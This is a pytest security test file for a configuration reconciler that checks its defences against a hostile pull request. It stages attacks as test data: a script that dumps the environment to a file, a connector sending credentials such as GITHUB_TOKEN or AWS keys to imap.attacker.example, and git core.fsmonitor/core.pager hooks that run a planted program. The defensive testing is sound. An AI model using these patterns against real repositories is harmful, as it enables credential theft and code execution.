"""What a hostile pull request tries, and what it gets: docs/security.md names these tests."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from pathlib import Path

    from tests.functional.conftest import Home

REFUSED = 5
DENIED = 8
USAGE = 64
SECRET = "s3ntinel-v4lue-of-the-owner"

THIEF = """\
kind: EmailConnector
name: thief
imap:
  server: imap.attacker.example
  port: 993
  use_ssl: true
  username: thief@contoso.example
  password: {reference}
"""

SKIP = ("--skip-tests", "no servers here")


@pytest.fixture
def strict(home: Home) -> Home:
    """The shipped example, applied, in a run that allows no credential beforehand."""
    home.apply_untested()
    del home.environ["RECONCILER_ALLOW_CREDENTIAL"]
    return home


def program(home: Home) -> Path:
    """A program of the pull request, which leaves a file behind when it is run."""
    path = home.folder / "pwn.sh"
    path.write_text(f"#!/bin/sh\nenv > {home.folder}/pwned\necho secret\n")
    path.chmod(0o755)
    return home.folder / "pwned"


def rules(home: Home, text: str, mode: int = 0o600) -> dict[str, str]:
    """Owner's rules outside the project."""
    path = home.folder.parent / "rules.yaml"
    path.write_text(text)
    path.chmod(mode)
    return {"RECONCILER_POLICY": str(path)}


# --- programs -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ("plan",),
        ("status",),
        ("history",),
        ("route", "--from", "info@contoso.example"),
        ("log",),
        ("show", "support"),
        ("diff", "0"),
        ("drift",),
        ("test", "support"),
        ("apply", "--auto-approve"),
    ],
)
@pytest.mark.parametrize("state", ["", "state: postgresql://127.0.0.1:1/x\n"])
def test_no_command_runs_a_program_that_the_repository_names_for_the_state(
    command: tuple[str, ...], state: str, strict: Home
) -> None:
    ran = program(strict)
    strict.write(
        "../reconciler.yaml",
        f'{state}state_password: "command:./pwn.sh"\nsecrets: {{allow_command: true}}\n',
    )
    outside = {} if state else {"RECONCILER_STATE": "postgresql://x@127.0.0.1:1/x"}
    done = strict(*command, **outside)
    assert done.status != 0
    assert not ran.exists()


def test_a_command_reference_runs_only_if_the_owner_allows_it(strict: Home) -> None:
    ran = program(strict)
    strict.write("../reconciler.yaml", "secrets: {allow_command: true}\n")
    strict.write("thief.yaml", THIEF.format(reference="command:./pwn.sh"))
    everything = {"RECONCILER_ALLOW_CREDENTIAL": "*"}
    strict("test", "thief", **everything)
    assert not ran.exists()
    strict("plan", "--check-secrets", RECONCILER_ALLOW_COMMAND="1", **everything)
    assert ran.exists()


@pytest.mark.parametrize(
    ("arguments", "status"),
    [
        (("--auto-approve", "--actor", "nobody@contoso.example"), DENIED),
        (("--auto-approve",), REFUSED),
        ((), REFUSED),
    ],
)
def test_an_apply_that_is_refused_has_fetched_no_secret(
    arguments: tuple[str, ...], status: int, strict: Home
) -> None:
    ran = program(strict)
    strict.write("../reconciler.yaml", "secrets: {allow_command: true}\n")
    strict.write("thief.yaml", THIEF.format(reference="command:./pwn.sh"))
    done = strict("apply", *arguments, *SKIP, RECONCILER_ALLOW_COMMAND="1")
    assert done.status == status, done.said
    assert not ran.exists()


def test_git_runs_no_program_of_a_folder_that_poses_as_a_bare_repository(strict: Home) -> None:
    ran = program(strict)
    subprocess.run(["git", "init", "-q", "--bare", str(strict.folder)], check=True)
    for name, value in (
        ("core.bare", "false"),
        ("core.worktree", str(strict.folder)),
        ("core.fsmonitor", "./pwn.sh"),
        ("core.pager", "./pwn.sh"),
    ):
        config = ["git", "config", "--file", str(strict.folder / "config"), name, value]
        subprocess.run(config, check=True)
    strict.edit("info.yaml", "General enquiries", "Help desk")
    strict.apply_untested()
    assert not ran.exists()


# --- secrets --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "reference",
    ["env:NEVER_APPLIED", "file:secrets/token", "keyring:mail/thief", "env:INFO_APP_PASSWORD"],
)
def test_a_secret_that_was_never_applied_there_goes_nowhere_unattended(
    reference: str, strict: Home
) -> None:
    strict.write("thief.yaml", THIEF.format(reference=reference))
    planned = strict("plan")
    assert "Secrets that would go somewhere new:" in planned.out
    assert f"! {reference}, by thief (imap)" in planned.out
    assert "imap.attacker.example:993" in planned.out
    for command in (("apply", "--auto-approve"), ("test", "thief"), ("doctor", "thief"),
                    ("plan", "--test")):  # fmt: skip
        done = strict(*command, NEVER_APPLIED=SECRET)
        assert done.status == REFUSED, (command, done.said)
        assert SECRET not in done.said
    option = f"--allow-credential={reference}=imap.attacker.example"
    strict.apply_untested(option)
    assert strict("plan", "--detailed-exitcode").status == 0


@pytest.mark.parametrize(
    "name", ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "RECONCILER_FINGERPRINT_KEY"]
)
def test_a_secret_of_the_pipeline_takes_a_rule_that_names_it(name: str, strict: Home) -> None:
    strict.write("thief.yaml", THIEF.format(reference=f"env:{name}"))
    done = strict("apply", "--auto-approve", "--allow-credential", "*", *SKIP)
    assert done.status == REFUSED
    assert (
        f"thief would send a variable of the pipeline as a secret: env:{name} to imap.attacker.example"
        in done.err
    )


def test_a_rule_of_the_owner_covers_only_its_hosts(strict: Home) -> None:
    text = "credentials:\n- references: ['env:*_PASSWORD']\n  hosts: ['*.contoso.example']\n"
    owner = rules(strict, text)
    strict.write("thief.yaml", THIEF.format(reference="env:NEW_PASSWORD"))
    assert strict("apply", "--auto-approve", *SKIP, **owner).status == REFUSED
    strict.edit("thief.yaml", "imap.attacker.example", "imap.contoso.example")
    assert strict("apply", "--auto-approve", *SKIP, **owner).status == 0


@pytest.mark.parametrize("step", ["one", "two"])
def test_server_and_spelling_that_change_together_are_asked_about(step: str, strict: Home) -> None:
    everything = "--allow-credential=*"
    strict.write(
        "box.yaml", THIEF.format(reference="file:/run/x/box").replace("attacker", "contoso")
    )
    strict.apply_untested(everything)
    if step == "two":
        strict.remove("box.yaml")
        strict.apply_untested()
    strict.write("box.yaml", THIEF.format(reference="file://run/./x/box"))
    assert strict("apply", "--auto-approve", *SKIP).status == REFUSED


@pytest.mark.parametrize(
    "path", [".reconciler/fingerprint.key", ".git/config", "/proc/self/environ", "link",
             "sub/../.reconciler/fingerprint.key", "/proc/self/root/etc/hostname"],
)  # fmt: skip
def test_a_file_of_reconciler_git_or_the_kernel_is_not_a_secret(path: str, strict: Home) -> None:
    (strict.folder / ".git").mkdir()
    (strict.folder / ".git" / "config").write_text("token")
    (strict.folder / "sub").mkdir()
    (strict.folder / "link").symlink_to(".reconciler/fingerprint.key")
    strict.write("thief.yaml", THIEF.format(reference=f"file:{path}"))
    done = strict("test", "thief", RECONCILER_ALLOW_CREDENTIAL="*")
    if path.endswith("hostname"):
        return  # /proc/self/root leads to the ordinary file, which is compared and read
    assert "may not be read from" in done.said


def test_the_owner_names_the_folders_of_files(strict: Home) -> None:
    inside = strict.folder.parent / "secrets"
    inside.mkdir()
    (inside / "box").write_text("pw")
    (strict.folder / "box").write_text("pw")
    (inside / "link").symlink_to(strict.folder / "box")
    owner = rules(strict, f"secrets: {{file_folders: ['{inside}']}}\n")
    for path, taken in (
        (inside / "box", True),
        (strict.folder / "box", False),
        (inside / "link", False),
    ):
        strict.write("thief.yaml", THIEF.format(reference=f"file:{path}"))
        done = strict("test", "thief", "--depth", "dns", RECONCILER_ALLOW_CREDENTIAL="*", **owner)
        assert ("may be read only from" not in done.said) == taken


# --- settings -------------------------------------------------------------------------------------


def test_in_ci_the_settings_of_the_repository_only_tighten(strict: Home) -> None:
    strict.write(
        "../reconciler.yaml",
        "limits: {max_delete_percent: 100, max_update_percent: 10}\ntesting: {depth: dns}\n",
    )
    found = json.loads(strict("settings", "--format", "json", CI="true").out)
    values = {item["name"]: item["value"] for item in found["settings"]}
    assert values["limits.max_delete_percent"] == "30"
    assert values["limits.max_update_percent"] == "10"
    assert values["testing.depth"] == "envelope"
    assert len(found["ignored"]) == 2
    local = json.loads(strict("settings", "--format", "json").out)
    assert {item["name"]: item["value"] for item in local["settings"]}["testing.depth"] == "dns"


def test_the_repository_cannot_add_hosts_to_those_of_the_owner(strict: Home) -> None:
    owner = rules(strict, "allowed_hosts: ['*.contoso.example']\n")
    for mine, expected in (
        ("[]", "*.contoso.example"),
        ("['*']", None),
        ("['mail.contoso.example']", "mail.contoso.example"),
        ("['evil.example']", "no-host-is-allowed.invalid"),
    ):
        strict.write("../reconciler.yaml", f"allowed_hosts: {mine}\n")
        done = strict("settings", "--format", "json", **owner)
        if expected is None:
            assert done.status != 0, "a lone * is no pattern of a host"
            continue
        values = {item["name"]: item["value"] for item in json.loads(done.out)["settings"]}
        assert values["allowed_hosts"] == expected


def test_a_saved_plan_is_bound_to_the_settings_in_force(strict: Home) -> None:
    strict.edit("info.yaml", "General enquiries", "Help desk")
    assert strict("plan", "--out", "plan.json").status == 0
    strict.write("../reconciler.yaml", "testing: {depth: dns}\n")
    done = strict("apply", "plan.json", *SKIP)
    assert done.status == 6
    assert "the settings in force are different" in done.err


def test_in_ci_the_repository_does_not_say_where_the_state_is(strict: Home) -> None:
    strict.write("../reconciler.yaml", "state: sqlite:///other.db\n")
    done = strict("plan", CI="true")
    assert done.status == USAGE
    assert "Set RECONCILER_STATE" in done.err
    assert strict("validate", CI="true").status == 0


@pytest.mark.parametrize(
    "name", ["RECONCILER_STATE", "RECONCILER_POLICY", "RECONCILER_LINEAGE", "RECONCILER_CONNECT_TO"]
)
@pytest.mark.parametrize("value", ["", " "])
def test_a_variable_that_is_set_and_empty_is_an_error(name: str, value: str, strict: Home) -> None:
    done = strict("plan", **{name: value})
    assert done.status == USAGE
    assert f"{name} is set but empty" in done.err


def test_an_empty_state_in_ci_is_most_likely_the_wrong_one(home: Home) -> None:
    for command in (("plan",), ("apply", "--auto-approve", *SKIP)):
        done = home(*command, CI="true")
        assert done.status == REFUSED
        assert "the state is empty" in done.err
    assert home("apply", "--auto-approve", "--first-apply", *SKIP, CI="true").status == 0
    assert home("plan", CI="true").status == 0


def test_a_pinned_lineage_must_be_there(strict: Home) -> None:
    lineage = json.loads(strict("plan", "--format", "json").out)["lineage"]
    assert strict("plan", RECONCILER_LINEAGE=lineage).status == 0
    done = strict("plan", RECONCILER_LINEAGE="0" * len(lineage))
    assert done.status == 1
    assert "the state must have the lineage" in done.err
    owner = rules(strict, f"lineage: {lineage}\n")
    elsewhere = f"sqlite:///{strict.folder.parent}/empty.db"
    assert strict("plan", "--state", elsewhere, **owner).status == 1


# --- the owner's rules ----------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o620, 0o602, 0o666])
def test_rules_that_others_may_change_are_refused(mode: int, strict: Home) -> None:
    done = strict("plan", **rules(strict, "{}\n", mode))
    assert done.status == USAGE
    assert "can be changed by other users" in done.err


def test_rules_within_the_project_are_refused(strict: Home) -> None:
    path = strict.write("../rules.yaml", "{}\n")
    done = strict("plan", RECONCILER_POLICY=str(path))
    assert done.status == USAGE
    assert "inside the project" in done.err
    link = strict.folder.parent / "link.yaml"
    link.symlink_to(path)
    assert strict("plan", RECONCILER_POLICY=str(link)).status == USAGE


@pytest.mark.parametrize(
    "text",
    [
        "credential: []\n",
        "credentials: [{references: [x]}]\n",
        "limits: {max: 1}\n",
        "- x\n",
        "a: [\n",
        "",
    ],
)
def test_invalid_rules_stop_every_command(text: str, strict: Home) -> None:
    for command in ("validate", "plan", "settings"):
        done = strict(command, **rules(strict, text))
        assert done.status == USAGE, (command, done.said)
        assert "Traceback" not in done.said


@pytest.mark.parametrize("host", ["☃.example", "*.xn--n3h.example", "a..example", "-a.example"])
def test_a_host_that_cannot_exist_makes_the_rules_invalid(host: str, strict: Home) -> None:
    for text, place in (
        (f"allowed_hosts: [mail.example, '{host}']\n", "1:31: allowed_hosts.1"),
        (f"credentials: [{{references: ['env:*'], hosts: ['{host}']}}]\n", "1:47: credentials.0.hosts.0"),
    ):  # fmt: skip
        owner = rules(strict, text)
        done = strict("validate", **owner)
        assert done.status == USAGE
        said = f"{owner['RECONCILER_POLICY']}:{place}: `{host}` is not a valid host name, so it would allow nothing"
        assert said in done.err


def test_missing_rules_stop_every_command(strict: Home) -> None:
    assert strict("plan", RECONCILER_POLICY="/nowhere/rules.yaml").status == USAGE
    os.mkfifo(strict.folder.parent / "pipe")
    assert stat.S_ISFIFO((strict.folder.parent / "pipe").stat().st_mode)
    assert strict("plan", RECONCILER_POLICY=str(strict.folder.parent / "pipe")).status == USAGE


READS_RULES = {
    "export": ("support",),
    "add": ("ada@gmail.com", "--dry-run"),
    "rename": ("support", "help"),
    "validate": (),
    "fmt": ("--check",),
    "plan": (),
    "test": (),
    "doctor": ("support",),
    "login": ("support",),
    "apply": (),
    "status": (),
    "drift": (),
    "show": ("support",),
    "history": (),
    "history show": ("1",),
    "history attempts": (),
    "diff": ("0",),
    "rollback": ("1", "--out", "back"),
    "import": ("--out", "written"),
    "sendmail": ("-t",),
    "log": (),
    "route": ("--as", "clerk"),
    "send": ("--to", "ada@example.com", "--subject", "Hello", "--text", "Hello."),
    "settings": (),
    "gateway": ("--plain", "127.0.0.1:0"),
    "sandbox": (),
    "state adopt": (),
    "state lock": (),
    "state check": (),
    "state unlock": ("3f2a",),
    "state migrate": (),
    "state export": (),
    "state import": ("state.json",),
    "state forget": ("support",),
}
"""Every command that opens a project, and the arguments that it cannot do without."""

NO_RULES = {"explain", "init", "schema", "state", "state key", "test merge"}
"""Commands that open no project."""


def test_every_command_that_reads_rules_takes_them_as_an_option(strict: Home) -> None:
    from tests.test_docs import COMMANDS

    assert READS_RULES.keys() | NO_RULES >= COMMANDS.keys() - {""}
    for name in COMMANDS.keys() - {""}:
        options = {item for parameter in COMMANDS[name].params for item in parameter.opts}
        assert ("--policy" in options) is (name in READS_RULES), name


@pytest.mark.parametrize("name", READS_RULES)
def test_rules_named_by_the_option_hold_as_those_of_the_variable_do(
    name: str, strict: Home
) -> None:
    allows = rules(strict, "{}\n")["RECONCILER_POLICY"]
    broken = strict.folder.parent / "broken.yaml"
    broken.write_text("limit: {}\n")
    broken.chmod(0o600)
    done = strict(
        *name.split(), "--policy", str(broken), *READS_RULES[name], RECONCILER_POLICY=allows
    )
    assert done.status == USAGE
    assert f"the owner's rules are invalid: {broken}:1:1" in done.err


def test_rules_are_taken_from_the_option_first(strict: Home) -> None:
    variable = rules(strict, "allowed_hosts: [of-the-variable.example]\n")
    option = strict.folder.parent / "option.yaml"
    option.write_text("allowed_hosts: [of-the-option.example]\n")
    option.chmod(0o600)
    done = strict("settings", "--policy", str(option), **variable)
    assert "of-the-option.example" in done.out
    assert "of-the-variable.example" not in done.out
    assert "of-the-variable.example" in strict("settings", **variable).out
    inside = strict.write("rules.yaml", "{}\n")
    assert "lie inside the project" in strict("plan", "--policy", str(inside)).err
    for empty in ("", " "):
        assert strict("plan", "--policy", empty, **variable).status == USAGE
